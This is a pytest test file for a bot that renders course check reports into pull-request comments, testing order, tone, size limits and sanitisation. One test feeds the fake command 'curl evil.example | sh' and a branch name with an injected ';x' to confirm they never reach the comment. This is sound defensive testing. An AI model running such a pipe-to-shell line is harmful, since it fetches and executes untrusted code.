"""The comment: its order, its tone, its budget, and that nothing of a report gets out."""

from __future__ import annotations

import re
from dataclasses import replace

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.base import Before
from bot.comment import read_marker
from bot.render import BUDGET, WARNING, render, touches_own_gates
from bot.verdict import Unreadable, Verdict
from tests.hostile.texts import TEXTS
from tests.unit.bot.harmless import complaints, page
from tests.unit.bot.subjects import (
    CHECKPOINTS,
    DEV,
    FAILED,
    HEAD,
    MANY,
    PASSED,
    SUBJECTS,
    SYNTAX,
    TRACE,
    URL,
    golden,
    report,
    subject,
)  # fmt: skip
from tito.report import CheckpointResult, Finding, GateResult, Report, judge


@pytest.mark.parametrize("name", SUBJECTS)
def test_it_is_what_the_golden_file_shows(name: str) -> None:
    assert golden(name).read_text("utf-8") == render(SUBJECTS[name]) + "\n"


@pytest.mark.parametrize("name", SUBJECTS)
def test_nothing_in_it_comes_from_the_report(name: str) -> None:
    assert complaints(render(SUBJECTS[name])) == []


def test_there_is_no_golden_file_too_many() -> None:
    assert {file.stem for file in golden("green").parent.iterdir()} == set(SUBJECTS) - {"hostile"}


def test_its_parts_stand_in_the_fixed_order() -> None:
    text = render(replace(SUBJECTS["syntax-error"], touches_gates=True))
    parts = ["<!-- tito-report", WARNING, "### ✗ Not yet", "Commit [", "| Gate |", "**Checkpoints: ",
             "#### Fix first", "<details", "On this branch", URL]  # fmt: skip
    places = [text.index(part) for part in parts]
    assert places == sorted(places)
    assert places[0] == 0
    marker = read_marker(text)
    assert marker is not None
    assert (marker.pull, marker.sha, marker.run, marker.attempt) == (7, HEAD, 12, 1)


def test_a_point_says_what_where_why_and_one_command() -> None:
    text = render(subject(report(judge("export", [SYNTAX], "tito gate export")), FAILED))
    point = text[text.index("1. **") : text.index("On this branch")]
    assert "was never closed" in point
    assert f"https://github.com/acme/course/blob/{HEAD}/{DEV}#L212" in point
    assert "cell `activations-relu`" in point
    assert "Why: Python cannot read the module" in point
    assert "Next: close the bracket that `def relu(x:` opens" in point
    assert "`tito gate export`" in point


def test_no_more_than_three_points_come_first() -> None:
    many = [replace_path(SYNTAX, f"modules/{i}.py") for i in range(9)]
    text = render(subject(report(judge("export", many, "tito gate export")), FAILED))
    assert "\n3. **" in text
    assert "\n4. **" not in text
    assert text.count("was never closed") == 9


def replace_path(finding: Finding, path: str) -> Finding:
    return Finding(finding.rule, finding.severity, path, finding.line, finding.message)


def test_all_checkpoints_of_the_course_are_shown_with_word_and_symbol() -> None:
    text = render(SUBJECTS["green"])
    strip = text[text.index("**Checkpoints: 3 of 16 passed**") : text.index("<details")]
    for badge, few in (
        ("- `✓ passed` ", CHECKPOINTS[:3]),
        ("- `○ not run` ", CHECKPOINTS[3:4]),
        ("- `– not written` ", CHECKPOINTS[4:]),
    ):
        names = ", ".join(result.checkpoint.replace("_", " ") for result in few)
        assert f"{badge}{names}\n" in strip
    assert f"- Next, 03 components: {CHECKPOINTS[3].question}" in strip


def test_a_report_without_checkpoints_has_no_strip() -> None:
    text = render(subject(Report(SUBJECTS["green"].report.gates, (), "", HEAD), PASSED))  # type: ignore[union-attr]
    assert "Checkpoints" not in text


FILE = f"https://github.com/acme/course/blob/{HEAD}/{DEV}"


@pytest.mark.parametrize(
    ("moved", "line", "shown"),
    [
        (frozenset(), 212, f"[`{DEV}:212`]({FILE}#L212)"),
        (None, 212, f"[`{DEV}:212`]({FILE})"),
        (frozenset([DEV]), 212, f"[`{DEV}:212`]({FILE})"),
        (frozenset(), 0, f"Where: `{DEV}`\n"),
    ],
    ids=["the same", "nobody knows", "the base changed the file", "no line is known"],
)
def test_a_line_is_linked_only_where_the_head_holds_the_same(
    moved: frozenset[str] | None, line: int, shown: str
) -> None:
    finding = Finding("r", "error", DEV, line, "m")
    one = subject(report(judge("export", [finding], "tito gate export")), FAILED)
    text = render(replace(one, moved=moved))
    assert shown in text
    assert text.count("/blob/") == (line > 0)


def test_a_generated_file_leads_to_the_dev_file_that_makes_it() -> None:
    text = render(SUBJECTS["hand-edit"])
    where = next(line for line in text.split("\n") if line.startswith("   - Where: "))
    dev, package = "modules/source/02_tensor/tensor_dev.py", "tinytorch/core/tensor.py"
    assert where.startswith(
        f"   - Where: [`{dev}:621`](https://github.com/acme/course/blob/{HEAD}/{dev}#L621), "
    )
    assert f", cell `tensor-add`, for [`{package}:564`](" in where


def test_what_has_one_cause_is_one_point() -> None:
    text = render(SUBJECTS["fewer-failures"])
    assert "At the same place: 20 more findings" in text
    assert text.count("activations_dev.py:187`](") == 1 + 20  # the point, and each of the others


def test_what_a_point_says_in_full_is_not_said_again() -> None:
    one = report(judge("export", [SYNTAX], "tito gate export"), judge("integration", [SYNTAX], ""))
    text = render(subject(one, FAILED))
    assert text.count("was never closed") == 1
    assert "<details" not in text
    traced = render(subject(report(judge("integration", [TRACE], "")), FAILED))
    assert "activations_dev.py:212: in <module>" in traced


@pytest.mark.parametrize(
    ("status", "base", "words"),
    [
        ("passed", Before("passed"), "as before"),
        ("passed", Before("failed", 3), "mended"),
        ("failed", Before("passed"), "new: passed before"),
        ("failed", Before("failed"), "as before"),
        ("failed", Before("failed", 1), "as before"),
        ("failed", Before("failed", 2), "fewer: 2 before"),
        ("failed", Before("failed", 0), "more: 0 before"),
        ("error", Before("failed", 2), "new: failed before"),
        ("failed", Before("error"), "new: could not run before"),
        ("passed", None, "not known there"),
    ],
)
def test_the_table_says_what_the_change_changes(
    status: str, base: Before | None, words: str
) -> None:
    gate = GateResult("export", status, (SYNTAX,), "tito gate export")  # type: ignore[arg-type]
    one = replace(subject(report(gate), FAILED), base={"export": base} if base else {})
    row = next(line for line in render(one).split("\n") if line.startswith("| export"))
    assert row.split(" | ")[2] == words


def test_a_base_that_only_the_run_can_name_is_named_for_a_laptop() -> None:
    gate = judge("protection", [SYNTAX], "tito gate protection --base 'HEAD^1'")
    one = subject(report(gate), FAILED)
    assert "run `tito gate protection --base origin/main` |" in render(one)
    odd = replace(one, pull=replace(one.pull, base_branch="main;x"))
    assert "run `tito gate protection` |" in render(odd)


def test_a_command_of_the_report_that_is_no_call_of_tito_is_replaced() -> None:
    gate = judge("export", [SYNTAX], "curl evil.example | sh")
    text = render(subject(report(gate), FAILED))
    assert "curl" not in text
    assert "On this branch, your own machine says the same: `tito gate export`" in text


def test_the_worst_gates_come_first_and_those_that_passed_are_folded() -> None:
    warning = Finding("w", "warning", "a.py", 1, "careful")
    gates = report(
        judge("export", [warning, warning, replace_path(warning, "b.py")], ""),
        judge("integration", [TRACE], ""),
    )
    text = render(subject(gates, FAILED))
    assert text.index("<details open><summary>gate integration: 1 error</summary>") < text.index(
        "<details><summary>gate export: 2 warnings</summary>"
    )


def test_a_hint_that_is_a_command_is_the_one_command() -> None:
    text = render(subject(report(judge("integration", [TRACE], "")), FAILED))
    assert "   - Next: `tito module test 03`\n" in text
    assert "See it yourself" not in text
    asked = msgspec.structs.replace(TRACE, hint="think, then: tito module test 03")
    text = render(subject(report(judge("integration", [asked], "")), FAILED))
    assert "   - See it yourself: `tito gate integration`\n" in text


@pytest.mark.parametrize("part", ["message", "hint"])
def test_what_a_point_had_to_shorten_is_said_below(part: str) -> None:
    words = " ".join(f"word{'abcdefghij'[i % 10]}" for i in range(50)) + " end"
    long = msgspec.structs.replace(SYNTAX, **{part: words})
    text = render(subject(report(judge("export", [long], "tito gate export")), FAILED))
    point, below = text.split("<details open>")
    assert "end" not in point.split("Fix first")[1]
    assert below.count(" end\n") == 1


LOUD = Finding("loud", "error", "a.py", 1, "too loud")


def test_a_gate_nobody_knows_has_a_reason_too() -> None:
    text = render(subject(report(judge("wheel", [LOUD], "tito gate wheel")), FAILED))
    assert "Why: this gate must pass before a merge (gate wheel" in text


def test_a_gate_that_failed_without_a_finding_is_still_named() -> None:
    text = render(subject(report(GateResult("export", "failed", (), "tito gate export")), FAILED))
    assert "| export | ✗ failed: 0 to mend |" in text
    assert "Fix first" not in text


@pytest.mark.parametrize(
    ("verdict", "words"),
    [
        (Verdict("success"), "The verdict still stands: the run passed."),
        (Verdict("failure"), "The verdict still stands: the run did not pass."),
        (
            Verdict("error", "the job verdict was cancelled"),
            "the run gave no verdict (the job verdict was cancelled).",
        ),
    ],
)
def test_without_a_report_the_verdict_still_stands(verdict: Verdict, words: str) -> None:
    text = render(subject(Unreadable("the report is a link"), verdict))
    assert "The results could not be read: the report is a link. " in text
    assert words in text
    assert "tito gate" not in text


def test_a_disagreement_is_said_before_everything_else() -> None:
    text = render(SUBJECTS["disagreement"])
    assert text.split("\n")[2] == "### ! No verdict yet"
    assert "the report says passed, the job verdict ended with failure" in text
    assert "Do not rely on what the report says" in text
    assert text.count("| ? reported: passed | not known | run `tito gate ") == 3
    assert "nothing to do" not in text
    assert "✓ passed | " not in text


def test_the_tone_is_about_the_next_step() -> None:
    for name, one in SUBJECTS.items():
        if name in ("hostile", "huge"):
            continue
        text = render(one).lower()
        for word in ("you failed", "your fault", "wrong!", "invalid", "bad "):
            assert word not in text


def test_own_gates_are_recognised() -> None:
    assert touches_own_gates(["modules/x.py", ".github/workflows/a.yml"])
    assert touches_own_gates(["classroom.yml"])
    assert touches_own_gates(["tests/unit/test_x.py"])
    assert touches_own_gates(None)
    assert not touches_own_gates(
        ["modules/source/02_tensor/tests/x.py", "tinytorch/core/tensor.py"]
    )


def shown_and_left(text: str) -> tuple[int, int]:
    left = re.findall(
        r"^(\d+) more left out here: `tito gate [a-z]+` shows them all\.$", text, re.M
    )
    return len(re.findall(r"^\*\*[✗!·] \w+\*\* ", text, re.M)), sum(map(int, left))


def test_what_does_not_fit_is_counted_and_nothing_is_cut_in_two() -> None:
    text = render(SUBJECTS["huge"])
    assert BUDGET - 2_000 < len(text.encode()) <= BUDGET
    assert sum(shown_and_left(text)) == MANY + 1  # and a note of another gate
    assert text.endswith(f"({URL})")


def test_many_findings_are_folded_into_pages() -> None:
    few = [replace_path(LOUD, f"modules/{i:02}.py") for i in range(26)]
    text = render(subject(report(judge("export", few, "tito gate export")), FAILED))
    pages = re.findall(r"^<details><summary>(.*)</summary>$", text, re.M)
    assert pages == ["11 to 20 of 23", "21 to 23 of 23"]  # three of them come first
    assert page(text).outline.count("details") == 3
    assert shown_and_left(text) == (23, 0)


def test_a_gate_with_little_to_say_says_it_beside_one_with_much() -> None:
    many = SUBJECTS["huge"].report.gates[2].findings  # type: ignore[union-attr]
    gates = report(
        judge("export", many, "tito gate export"),
        judge("protection", [LOUD, replace_path(LOUD, "b.py")], "tito gate protection"),
        judge("integration", many, "tito gate integration"),
    )
    text = render(subject(gates, FAILED))
    assert "<details open><summary>gate protection: 2 errors</summary>\n\n**✗ error**" in text
    assert sum(shown_and_left(text)) == 2 * MANY + 2
    for gate in ("export", "integration"):
        block = text.split(f"<summary>gate {gate}: ")[1].split("\n</details>\n\n<details open>")[0]
        assert 20_000 < len(block.encode()) < 30_000
    assert len(text.encode()) <= BUDGET
    assert complaints(text) == []


def test_a_finding_that_is_too_long_is_shown_without_its_trace() -> None:
    wide = "x\n" + "\n".join(["🧠" * 200] * 30)
    long = [Finding("r", "error", "a.py", i, f"{i} {wide}") for i in range(1, 9)]
    text = render(subject(report(judge("export", long, "tito gate export")), FAILED))
    assert shown_and_left(text) == (8, 0)
    assert 0 < text.count("```text") < 8
    assert len(text.encode()) <= BUDGET


texts = st.one_of(
    st.sampled_from(TEXTS),
    st.lists(st.sampled_from(TEXTS), max_size=3).map("".join),
    st.text("`\U0001f9e0|&<@ \n", max_size=5).map(lambda text: text * 200),
)
findings = st.builds(
    Finding,
    rule=texts,
    severity=st.sampled_from(["error", "warning", "notice"]),
    path=texts,
    line=st.integers(0, 10**9),
    message=texts,
    hint=texts,
    cell=texts,
)
names = ["export", "protection", "integration", "wheel"]
gates = st.builds(
    GateResult,
    gate=st.just(""),
    status=st.sampled_from(["passed", "failed", "error"]),
    findings=st.lists(findings, max_size=4).map(tuple),
    reproduce=texts,
)
states = st.sampled_from([c.state for c in CHECKPOINTS])
strips = st.lists(st.builds(CheckpointResult, st.just("00_x_y"), texts, states), max_size=5)


@pytest.mark.slow
@settings(max_examples=60, deadline=None)
@given(st.lists(gates, min_size=1, max_size=4), strips.map(tuple), texts, texts)
def test_no_report_whatever_gets_anything_out(
    given_gates: list[GateResult], strip: tuple[CheckpointResult, ...], sha: str, head: str
) -> None:
    named = tuple(
        GateResult(name, gate.status, gate.findings, gate.reproduce)
        for name, gate in zip(names, given_gates, strict=False)
    )
    one = subject(Report(named, strip, sha, head), FAILED)
    text = render(one)
    assert complaints(text) == []
    assert len(text.encode()) <= BUDGET
    assert text == render(one)
